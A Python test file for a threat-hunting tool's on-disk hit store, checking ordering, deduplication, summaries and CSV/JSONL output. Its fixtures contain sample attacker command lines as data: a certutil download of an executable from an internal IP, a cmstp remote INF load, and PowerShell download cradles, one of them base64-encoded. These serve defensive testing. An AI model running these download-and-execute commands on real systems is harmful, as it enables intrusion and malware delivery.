"""The hit store: on-disk hits whose SQL order, dedupe and summary equal the in-memory timeline functions."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from click.testing import CliRunner

import assay.hunt.store as store_module
from assay.cli.hunt_cmds import _write_json_document
from assay.cli.main import cli
from assay.cli.output import json_default
from assay.errors import EngineError
from assay.hunt.evaluate import TargetRef, enumerate_targets
from assay.hunt.hitrows import HIT_ROW_SCHEMA, hits_from_rows
from assay.hunt.rules import load_hunt_rules
from assay.hunt.run import hunt
from assay.hunt.store import HitStore
from assay.hunt.timeline import (
    TIMELINE_COLUMNS,
    Hit,
    dedupe_sorted,
    summarize,
    timeline_rows,
    write_jsonl,
)
from tests.hunt.conftest import process_creation
from tests.hunt.conftest import write_jsonl as write_events

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSTEM32 = "C:\\Windows\\System32\\"
# (title, id, level, techniques): ids empty for a rule whose identity falls back to its title; an unknown level
RULES = [
    ("CMSTP Silent Install", "e66779cc-383e-4224-a3a4-267eeb585c40", "high", ("T1218.003",)),
    ("Encoded PowerShell From Office", "cdc2f5a6-0f3d-4a1b-9f2e-3d3b6a7e9c11", "critical", ("T1059.001",)),
    ("Suspicious PsExec Service Installation", "42c575ea-e41e-41f1-b248-8093c3e82a28", "medium",
     ("T1569.002", "T1021.002")),
    ("Failed Network Logon", "", "low", ("T1110",)),
    ("Process Without Svchost Parent", "0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0003", "informational", ()),
    ("Legacy Vendor Rule", "7a0f1c12-9b4e-4c4e-8a30-7d1b2f6e0e55", "unknown", ("T1059.001", "T1059.001")),
    ('PowerShell "IEX", Download Cradle', "85b0b087-eddf-4a2b-b033-d771fa2b9775", "high", ("T1059.001",)),
]
ROUTES = ("windows/process_creation:sysmon-1", "windows/process_creation:security-4688",
          "windows/security:4625", "windows/system:7045")
HOSTS = ("WKS-FIN-042.corp.example.com", "SRV-DC-01.corp.example.com", None)
FILES = ("C:\\cases\\IR-2024-031\\wks-fin-042\\Sysmon.evtx", "C:\\cases\\IR-2024-031\\srv-dc-01\\Security.evtx",
         "/cases/IR-2024-031/exports, 2nd pass/dc02.evtx")
COMMANDS = (
    ("cmstp.exe", "cmstp.exe /ni /s https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/"
                  "Cmstp.inf"),
    ("WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -W Hidden -EncodedCommand "
                                                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="),
    ("cmd.exe", 'cmd.exe /c "echo 100%_done, all\tgood > C:\\Temp\\status.txt"'),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://10.20.30.40/a.txt C:\\Temp\\a.exe\r\n "),
    ("rundll32.exe", "rundll32.exe C:\\Users\\José\\AppData\\Local\\Temp\\报告.dll,DllRegisterServer\nsecond"),
)


def realistic_hits(count: int, seed: int = 20240312) -> list[Hit]:
    """Hits as the hunt makes them: many rules per event, two routes to one event, None timestamps and hosts."""
    rng = random.Random(seed)
    start = datetime(2024, 3, 12, 9, 14, 22, 123456)
    hits: list[Hit] = []
    while len(hits) < count:
        record = rng.randrange(1, 400)
        stamp = None if rng.random() < 0.07 else start + timedelta(seconds=rng.randrange(0, 90),
                                                                    microseconds=rng.choice((0, 500000, 7)))
        host = rng.choice(HOSTS)
        source_file = rng.choice(FILES)
        source_record: int | None = None if rng.random() < 0.05 else record
        image, command_line = rng.choice(COMMANDS)
        fields = (("Image", SYSTEM32 + image), ("CommandLine", command_line),
                  ("ParentImage", SYSTEM32 + "cmd.exe"))[:rng.randrange(0, 4)]
        event_id = rng.choice((1, 4688, 4625, None))
        # the same event hit by up to three rules, some through two routes (one identity, two sort keys)
        for title, rule_id, level, techniques in rng.sample(RULES, rng.randrange(1, 4)):
            for route in rng.sample(ROUTES, rng.choice((1, 1, 2))):
                hits.append(Hit(timestamp=stamp, host=host, rule_title=title, rule_id=rule_id, level=level,
                                techniques=techniques, channel=SYSMON if event_id == 1 else "Security",
                                event_id=event_id, fields=fields, source_file=source_file,
                                source_record=source_record, route=route))
    # exact duplicates and a 0 record next to a None one (equal sort keys, distinct identities)
    hits.append(hits[0])
    hits.append(Hit(**{**_init(hits[1]), "source_record": 0}))
    hits.append(Hit(**{**_init(hits[1]), "source_record": None}))
    rng.shuffle(hits)
    return hits


def _init(hit: Hit) -> dict[str, Any]:
    return {name: getattr(hit, name) for name in ("timestamp", "host", "rule_title", "rule_id", "level",
                                                   "techniques", "channel", "event_id", "fields", "source_file",
                                                   "source_record", "route")}


def old_write_csv(hits: list[Hit], out: io.StringIO) -> None:
    """The CSV writer as it was before the store (rows built whole, then written)."""
    writer = csv.writer(out)
    writer.writerow(TIMELINE_COLUMNS)
    for row in timeline_rows(hits):
        writer.writerow(["" if v is None else v for v in row])


def dicts(hits: Any) -> list[dict[str, Any]]:
    return [h.as_dict() for h in hits]


@pytest.fixture
def hits() -> list[Hit]:
    return realistic_hits(3000)


def test_store_order_and_dedupe_equal_the_in_memory_timeline(hits: list[Hit], tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(store_module, "READ_CHUNK_ROWS", 97)  # many chunks, on insert and on read
    monkeypatch.setattr(store_module, "PART_ROWS", 500)  # and many Parquet parts
    expected = dedupe_sorted(hits)
    assert len(expected) < len(hits) - 100  # the fixture really has duplicate identities
    with HitStore(tmp_path) as store:
        store.add_hits(hits[:1000])
        store.add_hits(iter(hits[1000:]))
        timeline = list(store.iter_hits())
        assert [h.sort_key for h in timeline] == [h.sort_key for h in expected]
        assert dicts(timeline) == dicts(expected)
        assert [h.fields for h in timeline] == [h.fields for h in expected]
        assert store.count() == len(expected)
        assert len(list(store.parts_folder.glob("part-*.parquet"))) >= 6
        assert dicts(store.head(25)) == dicts(expected[:25])
        # None timestamps last; hits added after a read are merged in
        assert timeline[-1].timestamp is None and timeline[0].timestamp is not None
        extra = realistic_hits(200, seed=7)
        store.add_hits(extra)
        assert dicts(store.iter_hits()) == dicts(dedupe_sorted(hits + extra))


def test_two_routes_to_one_event_keep_the_smaller_route(tmp_path: Path) -> None:
    when = datetime(2024, 3, 12, 9, 18, 0)
    base = {"timestamp": when, "host": "SRV-DC-01.corp.example.com", "rule_title": "PsExec Service Keyword",
            "rule_id": "0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0005", "level": "medium", "techniques": ("T1569.002",),
            "channel": "System", "event_id": 7045, "fields": (("ServiceName", "PSEXESVC"),),
            "source_file": "srv-dc-01/System.evtx", "source_record": 812}
    via_keyword = Hit(**base, route="windows/system:keywords")
    via_service = Hit(**base, route="windows/system:7045")
    with HitStore(tmp_path) as store:
        store.add_hits([via_keyword, via_service])
        assert [h.route for h in store.iter_hits()] == ["windows/system:7045"]
        assert store.summary(1).hits == 1


def test_equal_keys_of_two_identities_keep_the_order_of_first_arrival(tmp_path: Path) -> None:
    """A record None and a record 0 sort alike; dedupe_sorted orders them by when each identity first came."""
    base = {"host": "WKS-FIN-042.corp.example.com", "rule_title": "CMSTP Silent Install",
            "rule_id": "e66779cc-383e-4224-a3a4-267eeb585c40", "level": "high", "techniques": ("T1218.003",),
            "channel": SYSMON, "event_id": 1, "fields": (("Image", SYSTEM32 + "cmstp.exe"),),
            "source_file": FILES[0], "route": "windows/process_creation:sysmon-1"}
    early, late = datetime(2024, 3, 12, 9, 14, 22), datetime(2024, 3, 12, 9, 20, 0)
    hits = [Hit(**base, timestamp=late, source_record=None),   # identity A arrives first, with a late copy
            Hit(**base, timestamp=early, source_record=0),     # identity B
            Hit(**base, timestamp=early, source_record=None)]  # A's early copy replaces its late one
    with HitStore(tmp_path) as store:
        store.add_hits(hits)
        assert [h.source_record for h in store.iter_hits()] == [h.source_record for h in dedupe_sorted(hits)]
        assert [h.source_record for h in store.iter_hits()] == [None, 0]


def test_summary_by_sql_equals_summarize(hits: list[Hit], tmp_path: Path) -> None:
    with HitStore(tmp_path) as store:
        store.add_hits(hits)
        summary = store.summary(events=8255)
    expected = summarize(dedupe_sorted(hits), 8255)
    assert summary == expected
    assert list(summary.by_level) == list(expected.by_level)  # dict order is part of the contract
    assert summary.by_level["unknown"] > 0 and summary.by_technique["T1059.001"] > 0


def test_csv_and_jsonl_are_byte_identical_to_the_old_writers(hits: list[Hit], tmp_path: Path) -> None:
    expected = dedupe_sorted(hits)
    with HitStore(tmp_path) as store:
        store.add_hits(hits)
        new_csv, new_jsonl = io.StringIO(), io.StringIO()
        store.write_csv(new_csv)
        store.write_jsonl(new_jsonl)
    old_csv, old_jsonl = io.StringIO(), io.StringIO()
    old_write_csv(expected, old_csv)
    write_jsonl(expected, old_jsonl)
    assert new_csv.getvalue() == old_csv.getvalue()
    assert new_jsonl.getvalue() == old_jsonl.getvalue()
    assert "报告.dll" in new_jsonl.getvalue()  # non-ASCII kept as text, as before


@pytest.fixture
def refs(rules_dir: Path, cache_dir: Path) -> list[TargetRef]:
    return enumerate_targets(load_hunt_rules([rules_dir], cache_dir=cache_dir).rules)


def hit_rows(refs: list[TargetRef], count: int, seed: int = 3) -> pa.Table:
    """Hit rows as the fast path's workers return them (``target`` indexes ``refs``)."""
    rng = random.Random(seed)
    rows = []
    for number in range(count):
        image, command_line = rng.choice(COMMANDS)
        record = rng.randrange(1, count // 2)
        rows.append({"target": rng.randrange(len(refs)),
                     "timestamp": None if number % 17 == 0 else datetime(2024, 3, 12, 9, 15) + timedelta(
                         milliseconds=rng.randrange(0, 60_000)),
                     "host": rng.choice(HOSTS), "channel": SYSMON, "event_id": 1,
                     "fields": json.dumps({"Image": SYSTEM32 + image, "CommandLine": command_line},
                                          ensure_ascii=False),
                     "source_file": rng.choice(FILES), "source_record": record})
    return pa.Table.from_pylist(rows, schema=HIT_ROW_SCHEMA)


def test_hit_rows_and_hits_land_in_one_timeline(refs: list[TargetRef], tmp_path: Path) -> None:
    rows = hit_rows(refs, 1500)
    as_hits = list(hits_from_rows(rows, refs))
    more = realistic_hits(300, seed=11)
    with HitStore(tmp_path) as store:
        store.add_rows(rows.slice(0, 700), refs)
        store.add_hits(more)
        store.add_rows(rows.slice(700), refs)
        store.add_rows(rows.slice(0, 50), refs)  # the same hits again: deduped
        assert dicts(store.iter_hits()) == dicts(dedupe_sorted(as_hits + more))
        assert store.summary(5000) == summarize(dedupe_sorted(as_hits + more), 5000)
        bad = rows.slice(0, 1).set_column(0, "target", pa.array([len(refs)], pa.int32()))
        with pytest.raises(ValueError, match="outside"):
            store.add_rows(bad, refs)


def test_store_lives_in_its_folder_until_closed(tmp_path: Path) -> None:
    store = HitStore(tmp_path / "work")
    assert store.count() == 0 and list(store.iter_hits()) == [] and store.summary(12).events == 12
    store.add_hits(realistic_hits(50))
    assert store.count() > 0
    assert store.path.is_file() and store.path.parent.parent == tmp_path / "work"
    assert list(store.parts_folder.glob("part-*.parquet")) and store.disk_bytes() > 0
    store.close()
    store.close()
    assert not store.folder.exists()
    with pytest.raises(ValueError, match="closed"):
        store.add_hits(realistic_hits(5))


def test_a_forked_worker_never_deletes_its_parents_store(tmp_path: Path) -> None:
    import os

    with HitStore(tmp_path) as store:
        store.add_hits(realistic_hits(20))
        assert store.count() > 0
        child = os.fork()
        if child == 0:  # the fast path's workers are forked while the store exists
            store.close()
            os._exit(0)
        os.waitpid(child, 0)
        assert store.path.is_file() and store.count() > 0
    assert not store.folder.exists()


def test_a_low_memory_limit_keeps_the_order(tmp_path: Path) -> None:
    hits = realistic_hits(20_000, seed=99)
    with HitStore(tmp_path, memory_limit="24MB") as store:
        store.add_hits(hits)
        assert dicts(store.iter_hits()) == dicts(dedupe_sorted(hits))


def test_a_store_failure_is_an_engine_error_naming_the_folder(tmp_path: Path) -> None:
    store = HitStore(tmp_path, memory_limit="1MB")  # far too little for 20k hits: DuckDB runs out of memory
    try:
        with pytest.raises(EngineError, match=r"the hit store in .*assay-hits-") as caught:
            store.add_hits(realistic_hits(20_000))
            store.count()
        assert caught.value.hint and "TMPDIR" in caught.value.hint
    finally:
        store.close()


def many_events(count: int) -> list[dict[str, Any]]:
    events = []
    for number in range(1, count + 1):
        events.append(process_creation(
            number, f"2024-03-12T{9 + number // 3600:02d}:{number // 60 % 60:02d}:{number % 60:02d}.0000000Z",
            SYSTEM32 + "cmd.exe", f'cmd.exe /c "copy C:\\Users\\jdoe\\Documents\\q{number}.xlsx \\\\fs01\\drop"',
            SYSTEM32 + "explorer.exe", "Cmd.Exe"))
    return events


def test_a_hunt_with_many_hits_keeps_them_on_disk(tmp_path: Path, rules_dir: Path, cache_dir: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    write_events(logs / "wks-fin-042.jsonl", many_events(2500))
    with hunt([logs], [rules_dir], cache_dir=cache_dir, workers=1, store_dir=tmp_path / "spill") as result:
        # "Any Process But Svchost" hits every event: the hits are in the store, not in a list
        assert result.hit_count == result.summary.hits == 2500
        assert result._hits is None
        assert result.store.path.is_file() and result.store.path.stat().st_size > 0
        assert result.store.folder.parent == tmp_path / "spill"
        first = result.store.head(3)
        assert [h.source_record for h in first] == [1, 2, 3]
        folder = result.store.folder
    assert not folder.exists()


def test_cli_out_streams_the_same_bytes(case_logs: Path, rules_dir: Path, cache_dir: Path, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASSAY_CACHE_DIR", str(cache_dir))
    with hunt([case_logs], [rules_dir], cache_dir=cache_dir, workers=1) as result:
        expected_csv = io.StringIO()
        old_write_csv(result.hits, expected_csv)
        document = result.as_dict()
    runner = CliRunner()
    out = tmp_path / "out" / "timeline.csv"
    run = runner.invoke(cli, ["hunt", str(case_logs), "-r", str(rules_dir), "--format", "csv", "--out", str(out),
                              "--workers", "1"])
    assert run.exit_code == 0, run.output
    assert out.read_bytes() == expected_csv.getvalue().encode("utf-8")
    assert f"timeline: {len(document['timeline'])} hits written to {out}" in run.output
    as_json = tmp_path / "result.json"
    run = runner.invoke(cli, ["hunt", str(case_logs), "-r", str(rules_dir), "--format", "json", "--out",
                              str(as_json), "--workers", "1"])
    assert run.exit_code == 0, run.output
    written = json.loads(as_json.read_text(encoding="utf-8"))
    assert written["timeline"] == document["timeline"] and written["summary"] == document["summary"]
    plain = runner.invoke(cli, ["hunt", str(case_logs), "-r", str(rules_dir), "--workers", "1"])
    assert plain.exit_code == 0
    lines = plain.stdout.splitlines()
    assert lines[0].split("\t")[:3] == ["timestamp", "host", "rule"]
    assert sum(1 for line in lines if ".jsonl\t" in line) == len(document["timeline"])


@pytest.mark.parametrize("with_hits", [True, False])
def test_streamed_json_document_equals_json_dumps(with_hits: bool, case_logs: Path, rules_dir: Path,
                                                  cache_dir: Path, tmp_path: Path) -> None:
    logs = case_logs if with_hits else tmp_path / "empty"
    logs.mkdir(exist_ok=True)
    with hunt([logs], [rules_dir], cache_dir=cache_dir, workers=1) as result:
        streamed = io.StringIO()
        _write_json_document(result, streamed)
        whole = json.dumps(result.as_dict(), indent=2, default=json_default, ensure_ascii=False)
    assert streamed.getvalue() == whole
    assert (json.loads(whole)["timeline"] != []) is with_hits


def test_cli_terminal_table_shows_the_head_and_counts_the_rest(case_logs: Path, rules_dir: Path, cache_dir: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import assay.cli.hunt_cmds as hunt_cmds
    import assay.cli.output as output

    monkeypatch.setenv("ASSAY_CACHE_DIR", str(cache_dir))
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setattr(hunt_cmds, "MAX_TERMINAL_ROWS", 4)
    monkeypatch.setattr(hunt_cmds, "is_tty", lambda: True)
    monkeypatch.setattr(output, "is_tty", lambda: True)
    run = CliRunner().invoke(cli, ["hunt", str(case_logs), "-r", str(rules_dir), "--workers", "1"])
    assert run.exit_code == 0, run.output
    assert "first 4 of 11 hits; write them all with --out FILE" in run.output
    assert "Timeline" in run.output and "CMSTP Silent Install" in run.output


def test_csv_cells_rendered_by_duckdb_equal_pythons_on_awkward_values(tmp_path: Path) -> None:
    """Quotes, commas, line breaks, non-ASCII, a lone surrogate from a damaged log, whole seconds, missing values."""
    base = {"rule_title": 'Suspicious "Quoted", Title', "rule_id": "5b0f3c8e-6a7d-4d2e-9c1b-7e2f4a9d0c09",
            "level": "high", "techniques": ("T1059.001", "T1218.003"), "route": "windows/process_creation:sysmon-1"}
    awkward = [
        Hit(**base, timestamp=datetime(2024, 3, 12, 9, 15), host="WKS-FIN-042,corp", channel=SYSMON, event_id=1,
            fields=(("CommandLine", 'powershell -c "iex (New-Object Net.WebClient)"'),
                    ("Image", SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe")),
            source_file=FILES[0], source_record=4101),
        Hit(**base, timestamp=datetime(2024, 3, 12, 9, 15, 0, 120), host=None, channel=None, event_id=None,
            fields=(("CommandLine", "cmd.exe /c echo a,b\r\nwhoami"), ("Image", "C:\\Users\\李雷\\报告.exe")),
            source_file="C:\\cases\\x,y\\Sysmon.evtx", source_record=None),
        Hit(**base, timestamp=None, host="SRV-DC-01.corp.example.com", channel="Security", event_id=4688,
            fields=(("NewProcessName", "C:\\Temp\\bad\udc80name.exe"),), source_file=FILES[1], source_record=77),
        Hit(**base, timestamp=datetime(1999, 12, 31, 23, 59, 59, 999999), host="WKS", channel=SYSMON, event_id=1,
            fields=(), source_file=FILES[0], source_record=1),
    ]
    with HitStore(tmp_path) as store:
        store.add_hits(awkward)
        new_csv = io.StringIO()
        store.write_csv(new_csv)
    old_csv = io.StringIO()
    old_write_csv(dedupe_sorted(awkward), old_csv)
    assert new_csv.getvalue() == old_csv.getvalue()
    rows = {row[1]: row for row in csv.reader(io.StringIO(new_csv.getvalue()))}
    assert rows["WKS-FIN-042,corp"][7].startswith('CommandLine=powershell -c "iex')  # quoted, then read back
    assert rows["WKS-FIN-042,corp"][0] == "2024-03-12 09:15:00" and rows["WKS"][0].endswith(".999999")


def test_csv_of_hit_rows_whose_fields_are_not_all_text(refs: list[TargetRef], tmp_path: Path) -> None:
    """Rows carry their key fields as JSON text; values that are not strings are rendered as Python renders them."""
    rows = hit_rows(refs, 40)
    odd = ['{"ProcessId": 4242, "Elevated": true, "ParentProcessId": null}',
           '{"CommandLine": "cmd /c \\"echo\\": 1", "Image": "C:\\\\Windows\\\\cmd.exe"}',  # a '":' inside a string
           '{"Hashes": {"SHA256": "9f86d081884c7d659a2feaa0c55ad015"}}', "{}"]
    fields = rows.column("fields").to_pylist()
    fields[:len(odd)] = odd
    rows = rows.set_column(rows.schema.get_field_index("fields"), "fields", pa.array(fields, pa.string()))
    with HitStore(tmp_path) as store:
        store.add_rows(rows, refs)
        new_csv = io.StringIO()
        store.write_csv(new_csv)
    old_csv = io.StringIO()
    old_write_csv(dedupe_sorted(list(hits_from_rows(rows, refs))), old_csv)
    assert new_csv.getvalue() == old_csv.getvalue()
    assert "ProcessId=4242 Elevated=True ParentProcessId=None" in new_csv.getvalue()
